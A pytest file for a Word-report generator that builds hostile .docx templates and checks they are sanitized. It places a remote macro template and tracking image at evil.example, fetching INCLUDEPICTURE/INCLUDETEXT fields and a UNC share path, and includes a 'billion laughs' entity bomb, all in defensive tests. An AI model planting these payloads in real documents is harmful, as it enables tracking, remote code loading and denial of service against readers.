"""Hostile Word templates: the report takes their look and nothing else.

Each template is the default one (:func:`write_template`) given a style of its own and a
picture in its header, then rewritten with zipfile to carry a payload: macros, an attached
template, pictures and hyperlinks outside, custom XML, a big thumbnail, fields that fetch,
a document type with entities ("billion laughs")... Also here: writers on a full disk.
"""

from __future__ import annotations

import errno
import gc
import io
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.document import Document
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml.ns import qn
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import hdnd
import hdnd.report.docx as module
from hdnd.cli import main
from hdnd.io.xlsx import write_workbook
from hdnd.report.docx import (
    DroppedFromTemplate,
    NotADocx,
    UnsafeTemplate,
    write_docx,
    write_template,
)

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STYLE = "Mẫu riêng của văn phòng"
"""A style only the template has: the report having it shows the styles were taken."""
LIMIT = 2**20  # MAX_PART_BYTES in these tests: big parts stay small
Measured = Callable[..., tuple[int, str, float]]  # the fixture in conftest.py


def png(width: int = 2, height: int = 2) -> bytes:
    """A red PNG picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        checksum = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + checksum

    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def base_template() -> dict[str, bytes]:
    """The parts of the default template, with a style of its own and a header picture."""
    default = io.BytesIO()
    write_template(default)
    document = docx.Document(default)
    document.styles.add_style(STYLE, WD_STYLE_TYPE.PARAGRAPH)
    document.sections[0].header.paragraphs[0].add_run().add_picture(io.BytesIO(png()))
    saved = io.BytesIO()
    document.save(saved)
    with zipfile.ZipFile(saved) as z:
        return {name: z.read(name) for name in z.namelist()}


def relationships(*links: tuple[str, str, str, bool]) -> bytes:
    """The XML of relationships (id, type, target, external)."""
    outside = ' TargetMode="External"'
    rels = "".join(
        f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{outside * external}/>'
        for rid, kind, target, external in links
    )
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    xml = f'<?xml version="1.0"?><Relationships xmlns="{namespace}">{rels}</Relationships>'
    return xml.encode()


def add_links(rels: bytes, *links: tuple[str, str, str, bool]) -> bytes:
    added = relationships(*links).split(b">", 2)[2].removesuffix(b"</Relationships>")
    return rels.replace(b"</Relationships>", added + b"</Relationships>")


def save(parts: dict[str, bytes], path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


PICTURE_AT = (  # a picture whose image is fetched from an address (r:link), not stored
    '<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="9" name="p"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:nvPicPr><pic:cNvPr id="9" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip r:link="rIdAt"/></pic:blipFill><pic:spPr/></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
)
FIELDS = (  # a simple field and a complex one split over runs, both fetching
    "<w:fldSimple w:instr='INCLUDEPICTURE \"http://evil.example/f.png\" \\d'>"
    "<w:r><w:t>simple</w:t></w:r></w:fldSimple>"
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r>'
    '<w:r><w:instrText>TEXT "\\\\server\\share\\x.docx"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>complex</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)


def hostile(tmp_path: Path) -> Path:
    """A template carrying every payload the issue names, and a few more."""
    parts = base_template()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros"
    parts["customXml/item9.xml"] = b"<secret>not for the report</secret>"
    parts["docProps/thumbnail.jpeg"] = bytes(2 * LIMIT)  # over the limit of these tests
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/word/vbaProject.bin" '
        b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    parts["word/_rels/document.xml.rels"] = add_links(
        parts["word/_rels/document.xml.rels"],
        ("rIdVba", "vbaProject", "vbaProject.bin", False),
        ("rIdXml", "customXml", "../customXml/item9.xml", False),
    )
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b'<w:zoom w:val="bestFit"/>', b'<w:zoom w:val="bestFit"/><w:attachedTemplate r:id="rIdT"/>'
    )
    parts["word/_rels/settings.xml.rels"] = relationships(
        ("rIdT", "attachedTemplate", "http://evil.example/macros.dotm", True)
    )
    parts["word/_rels/header1.xml.rels"] = add_links(
        parts["word/_rels/header1.xml.rels"],
        ("rIdAt", "image", "http://evil.example/track.png", True),
        ("rIdUnc", "hyperlink", "\\\\server\\share", True),
    )
    parts["word/header1.xml"] = parts["word/header1.xml"].replace(
        b"</w:hdr>",
        f'<w:p><w:hyperlink r:id="rIdUnc"><w:r><w:t>chia sẻ</w:t></w:r></w:hyperlink>'
        f"{PICTURE_AT}{FIELDS}</w:p></w:hdr>".encode(),
    )
    return save(parts, tmp_path / "mau.docx")


@pytest.fixture
def limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "MAX_PART_BYTES", LIMIT)


@pytest.fixture(scope="module")
def summary(city: hdnd.Dataset) -> hdnd.Summary:
    return hdnd.summarize(city, hdnd.parse_period("quý I/2023"), council="tp")


def report(summary: hdnd.Summary, template: Path) -> bytes:
    out = io.BytesIO()
    write_docx(summary, None, out, template=template)
    return out.getvalue()


def parts_of(package: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(package)) as z:
        return {info.filename: z.read(info) for info in z.infolist()}


@pytest.fixture
def opened(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, str]]:
    """The zip files and members read while the test runs."""
    names: list[tuple[str, str]] = []
    unpack = zipfile.ZipFile.open

    def recording(self: zipfile.ZipFile, name: Any, mode: str = "r", *more: Any) -> Any:
        if mode == "r":
            member = name.filename if isinstance(name, zipfile.ZipInfo) else name
            names.append((str(self.filename), member))
        return unpack(self, name, mode, *more)

    monkeypatch.setattr(zipfile.ZipFile, "open", recording)
    return names


@pytest.mark.usefixtures("limit")
def test_the_report_takes_the_look_and_nothing_else(
    summary: hdnd.Summary, tmp_path: Path, opened: list[tuple[str, str]]
) -> None:
    template = hostile(tmp_path)
    with pytest.warns(DroppedFromTemplate) as warned:
        package = report(summary, template)
    parts = parts_of(package)
    names = list(parts)
    assert not [n for n in names if re.search(r"(?i)vba|customXml|thumbnail|glossary", n)]
    assert not [n for n, data in parts.items() if b'TargetMode="External"' in data]
    assert not [n for n, data in parts.items() if b"evil.example" in data or b"\\server" in data]
    assert max(len(data) for data in parts.values()) <= LIMIT
    assert b"vbaProject" not in parts["[Content_Types].xml"]
    assert b"attachedTemplate" not in parts["word/settings.xml"]
    header = parts["word/header1.xml"]
    assert b"INCLUDE" not in header
    assert [n for n in names if n.startswith("word/media/")] == ["word/media/image1.png"]
    assert b"r:embed" in header  # the picture stored in the template stays
    document = docx.Document(io.BytesIO(package))
    last = document.sections[0].header.paragraphs[-1]
    header_text = "".join(t.text for t in last._p.iter(qn("w:t")))
    assert header_text == "chia sẻsimplecomplex"  # links and fields go, their text stays
    assert STYLE in [s.name for s in document.styles]
    # never unpacked, so never in memory: what the report does not take
    read = {member for archive, member in opened if archive == str(template)}
    assert "word/styles.xml" in read
    assert not {"word/vbaProject.bin", "docProps/thumbnail.jpeg", "customXml/item9.xml"} & read
    (message,) = [str(w.message) for w in warned]
    assert message.startswith(f"{template}: left out: macros: word/vbaProject.bin; ")
    for named in (
        "; custom XML: customXml/item9.xml;",
        "; thumbnail: docProps/thumbnail.jpeg;",
        "3 links outside: a picture at http://evil.example/track.png, "
        "a hyperlink to \\\\server\\share, the attached template http://evil.example/macros.dotm",
        'a field INCLUDEPICTURE "http://evil.example/f.png" \\d (what it shows stays)',
        'a field INCLUDETEXT "\\\\server\\share\\x.docx" (what it shows stays)',
    ):
        assert named in message


def test_the_command_names_what_it_left_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], example_path: Path
) -> None:
    template, out = hostile(tmp_path), tmp_path / "bc.docx"
    args = ["report", str(example_path), "--period", "quý I/2023", "--council", "tp"]
    assert main([*args, "--docx-template", str(template), "--output", str(out)]) == 0
    warning, wrote = capsys.readouterr().err.splitlines()  # one line each
    assert warning.startswith(f"hdnd: warning: {template}: left out: macros: word/vbaProject.bin;")
    assert wrote == f"hdnd: wrote {out}: a Word report on quý I/2023 for HĐND thành phố (tp)"
    assert "vbaProject" not in str(zipfile.ZipFile(out).namelist())


def laughs(levels: int = 9) -> bytes:
    """A document type whose entity expands to 10 ** ``levels`` "ha"s."""
    entities = '<!ENTITY e0 "ha">' + "".join(
        f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, levels + 1)
    )
    return f"<!DOCTYPE w:hdr [{entities}]>".encode()


@pytest.mark.parametrize("part", ["word/header1.xml", "word/styles.xml", "word/_rels/.rels"])
def test_a_document_type_refuses_the_template(
    summary: hdnd.Summary, tmp_path: Path, part: str
) -> None:
    parts = base_template()
    if part == "word/_rels/.rels":  # a part the report never takes: refused all the same
        part = "customXml/_rels/item1.xml.rels"
    data = parts.get(part, relationships())
    declaration = data.index(b"?>") + 2 if data.startswith(b"<?xml") else 0
    parts[part] = data[:declaration] + laughs() + data[declaration:]
    template = save(parts, tmp_path / "mau.docx")
    message = f"{template}: {part}: refusing an XML document type declaration (<!DOCTYPE)"
    with pytest.raises(UnsafeTemplate, match=re.escape(message)):
        report(summary, template)


def test_the_command_refuses_a_billion_laughs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], measured: Measured, example_path: Path
) -> None:
    parts = base_template()
    header = parts["word/header1.xml"]
    body = header.index(b"<w:hdr")
    header = (
        header[:body]
        + laughs()
        + header[body:].replace(b"</w:p>", b"<w:r><w:t>&e9;</w:t></w:r></w:p>", 1)
    )
    parts["word/header1.xml"] = header
    template, out = save(parts, tmp_path / "mau.docx"), tmp_path / "bc.docx"
    args = ["report", str(example_path), "--period", "quý I/2023", "--docx-template", str(template)]
    status, output, _ = measured([*args, "--output", str(out)])
    assert status == 2
    assert output == (
        f"hdnd: error: {template}: word/header1.xml: refusing an XML document type declaration "
        "(<!DOCTYPE): Word never writes one, and its entities can expand without end\n"
    )
    assert not out.exists()


def test_a_big_part_the_report_does_not_take_is_never_read(
    tmp_path: Path, measured: Measured, example_path: Path
) -> None:
    """The issue's template: a 768 MiB thumbnail took 1.6 GB and went into the report.

    Here 256 MiB of zeros, which pack into 256 KiB: the report is made in the memory it
    takes without it.
    """
    template = save(base_template(), tmp_path / "mau.docx")
    with (
        zipfile.ZipFile(template, "a", zipfile.ZIP_DEFLATED) as z,
        z.open("docProps/big.jpeg", "w") as big,
    ):
        for _ in range(256):
            big.write(bytes(2**20))
    args = ["report", str(example_path), "--period", "quý I/2023", "--council", "tp"]
    out = tmp_path / "bc.docx"
    status, output, peak = measured([*args, "--docx-template", str(template), "--output", str(out)])
    said = f"hdnd: wrote {out}: a Word report on quý I/2023 for HĐND thành phố (tp)\n"
    assert (status, output) == (0, said)
    assert peak < 200  # MiB: python and the data take some 60; the part alone would be 256
    assert max(i.file_size for i in zipfile.ZipFile(out).infolist()) < 2**20


@pytest.mark.parametrize(
    ("limit", "value", "message"),
    [
        (
            "MAX_TEMPLATE_BYTES",
            10_000,
            "refusing a template of .* bytes; the limit is 10,000 bytes",
        ),
        ("MAX_TEMPLATE_PARTS", 5, "refusing a template of .* parts; the limit is 5"),
        ("MAX_PART_BYTES", 100_000, r"refusing word/styles\.xml of .*; the limit is 100,000 bytes"),
        ("MAX_TAKEN_BYTES", 100_000, "refusing to unpack over 100,000 bytes"),
    ],
)
def test_past_a_limit_the_template_is_refused(
    summary: hdnd.Summary,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    limit: str,
    value: int,
    message: str,
) -> None:
    template = tmp_path / "mau.docx"
    write_template(template)
    report(summary, template)  # within the limits as they are
    monkeypatch.setattr(module, limit, value)
    with pytest.raises(UnsafeTemplate) as refused:
        report(summary, template)
    assert re.match(f"{re.escape(str(template))}: {message}", str(refused.value))
    assert f"hdnd.report.docx.{limit})" in str(refused.value)


@pytest.mark.usefixtures("limit")
def test_a_picture_over_the_limit_is_left_out(summary: hdnd.Summary, tmp_path: Path) -> None:
    parts = base_template()
    (picture,) = [n for n in parts if n.startswith("word/media/")]
    parts[picture] = png() + bytes(2 * LIMIT)  # the same picture, padded
    template = save(parts, tmp_path / "mau.docx")
    left_out = f"{picture} of 2 MiB; the limit is 1 MiB (hdnd.report.docx.MAX_PART_BYTES)"
    with pytest.warns(DroppedFromTemplate, match=re.escape(left_out)):
        package = report(summary, template)
    header = parts_of(package)["word/header1.xml"]
    assert b"<w:drawing" not in header
    assert b'w:instr="PAGE"' in header  # the rest of the header stays


def test_a_picture_of_another_kind_is_left_out(summary: hdnd.Summary, tmp_path: Path) -> None:
    parts = base_template()
    (picture,) = [n for n in parts if n.startswith("word/media/")]
    parts[picture] = b"<svg xmlns='http://www.w3.org/2000/svg'/>"
    template = save(parts, tmp_path / "mau.docx")
    with pytest.warns(DroppedFromTemplate, match="not a PNG, JPEG, GIF, BMP or TIFF picture"):
        package = report(summary, template)
    assert not [n for n in parts_of(package) if n.startswith("word/media/")]


@pytest.mark.parametrize(
    "kind",
    [
        "openxmlformats-officedocument.wordprocessingml.template",  # .dotx
        "ms-word.document.macroEnabled",  # .docm: the macros stay behind
        "ms-word.template.macroEnabledTemplate",  # .dotm
    ],
)
def test_templates_and_macro_documents_lend_their_look(
    summary: hdnd.Summary, tmp_path: Path, kind: str
) -> None:
    parts = base_template()
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        main, f"application/vnd.{kind}.main+xml".encode()
    )
    document = docx.Document(io.BytesIO(report(summary, save(parts, tmp_path / "mau.docx"))))
    assert STYLE in [s.name for s in document.styles]


def broken(parts: dict[str, bytes]) -> None:
    parts["word/styles.xml"] = b"<w:styles"


def wrong_root(parts: dict[str, bytes]) -> None:
    parts["word/styles.xml"] = parts["word/header1.xml"]


def spreadsheet(parts: dict[str, bytes]) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main", b"spreadsheetml.sheet.main"
    )


def no_document(parts: dict[str, bytes]) -> None:
    del parts["word/document.xml"]


@pytest.mark.parametrize(
    ("damage", "message"),
    [
        (broken, r"word/styles\.xml: not XML as Word writes it"),
        (wrong_root, r"word/styles\.xml: not the part its relationship says it is"),
        (spreadsheet, r"not a Word document \(\.docx\)"),
        (no_document, r"word/document\.xml is missing"),
    ],
)
def test_a_damaged_template_is_not_a_docx(
    summary: hdnd.Summary,
    tmp_path: Path,
    damage: Callable[[dict[str, bytes]], None],
    message: str,
) -> None:
    parts = base_template()
    damage(parts)
    template = save(parts, tmp_path / "mau.docx")
    with pytest.raises(NotADocx, match=f"^{re.escape(str(template))}: {message}"):
        report(summary, template)


def test_even_page_headers_come_with_the_setting(summary: hdnd.Summary, tmp_path: Path) -> None:
    styled = docx.Document(io.BytesIO(parts_to_bytes(base_template())))
    styled.settings.odd_and_even_pages_header_footer = True
    styled.sections[0].even_page_header.paragraphs[0].text = "Trang chẵn"
    template = tmp_path / "mau.docx"
    styled.save(template)
    document: Document = docx.Document(io.BytesIO(report(summary, template)))
    assert document.settings.odd_and_even_pages_header_footer
    assert document.sections[0].even_page_header.paragraphs[0].text == "Trang chẵn"


def parts_to_bytes(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out.getvalue()


def test_the_default_report_holds_only_what_it_needs(summary: hdnd.Summary) -> None:
    out = io.BytesIO()
    write_docx(summary, None, out)
    # python-docx's own package brings a thumbnail of another document, custom XML...
    assert sorted(parts_of(out.getvalue())) == [
        "[Content_Types].xml",
        "_rels/.rels",
        "docProps/app.xml",
        "docProps/core.xml",
        "word/_rels/document.xml.rels",
        "word/document.xml",
        "word/fontTable.xml",
        "word/header1.xml",
        "word/numbering.xml",
        "word/settings.xml",
        "word/styles.xml",
        "word/theme/theme1.xml",
    ]


# -- writers on a full disk --------------------------------------------------------------------


class FullDisk(io.BytesIO):
    """A file on a full disk: every write fails."""

    def write(self, data: Any) -> int:
        raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.parametrize(
    "write",
    [
        lambda out: write_docx(
            hdnd.summarize(hdnd.Dataset(), hdnd.parse_period("2023")), None, out
        ),
        lambda out: write_workbook(hdnd.Dataset(), out),
    ],
    ids=["docx", "xlsx"],
)
def test_a_full_disk_is_an_error_and_nothing_else(
    write: Callable[[FullDisk], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not also "Exception ignored ... ValueError: seek of closed file" once the zip the
    writer left open is collected."""
    unraisable: list[Any] = []
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
    with FullDisk() as out, pytest.raises(OSError, match="No space left"):
        write(out)
    gc.collect()
    assert unraisable == []


def body_text_of_characters(parts: dict[str, bytes]) -> None:
    style = b'w:type="paragraph" w:styleId="BodyText"'
    assert style in parts["word/styles.xml"]
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        style, b'w:type="character" w:styleId="BodyText"'
    )


def test_a_style_of_another_type_is_replaced(summary: hdnd.Summary, tmp_path: Path) -> None:
    parts = base_template()
    body_text_of_characters(parts)
    document = docx.Document(io.BytesIO(report(summary, save(parts, tmp_path / "mau.docx"))))
    assert document.styles["Body Text"].type == WD_STYLE_TYPE.PARAGRAPH
    assert [p for p in document.paragraphs if p.style.name == "Body Text"]


@pytest.mark.parametrize(
    ("part", "value", "odd"),
    [
        ("word/document.xml", b'w:w="11906"', b'w:w="A4"'),
        ("word/styles.xml", b'w:type="paragraph" w:default="1"', b'w:type="text" w:default="1"'),
    ],
)
def test_a_value_word_never_writes_is_not_a_docx(
    summary: hdnd.Summary, tmp_path: Path, part: str, value: bytes, odd: bytes
) -> None:
    parts = base_template()
    assert value in parts[part]
    parts[part] = parts[part].replace(value, odd, 1)
    template = save(parts, tmp_path / "mau.docx")
    with pytest.raises(NotADocx, match=f"^{re.escape(str(template))}: a value Word never writes"):
        report(summary, template)


XML_PARTS = [
    "[Content_Types].xml",
    "_rels/.rels",
    "word/_rels/document.xml.rels",
    "word/_rels/header1.xml.rels",
    "word/document.xml",
    "word/header1.xml",
    "word/settings.xml",
    "word/numbering.xml",
]


@pytest.fixture(scope="module")
def base() -> dict[str, bytes]:
    return base_template()


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    part=st.sampled_from(XML_PARTS),
    at=st.floats(0, 1),
    cut=st.integers(0, 40),
    insert=st.sampled_from([b"", b'"', b"<", b">", b"=", b'w:val="x"', b"<w:p/>", b"&#0;", b"r:"]),
)
def test_a_template_damaged_anywhere_is_an_error_or_a_report(
    base: dict[str, bytes],
    summary: hdnd.Summary,
    tmp_path_factory: pytest.TempPathFactory,
    part: str,
    at: float,
    cut: int,
    insert: bytes,
) -> None:
    parts = dict(base)
    data = parts[part]
    where = int(at * len(data))
    parts[part] = data[:where] + insert + data[where + cut :]
    template = save(parts, tmp_path_factory.mktemp("mau") / "mau.docx")
    try:
        package = report(summary, template)
    except hdnd.HdndError as e:
        refused = str(e)
    else:
        refused = ""
        assert docx.Document(io.BytesIO(package)).paragraphs
    assert not refused or refused.startswith(f"{template}: ")
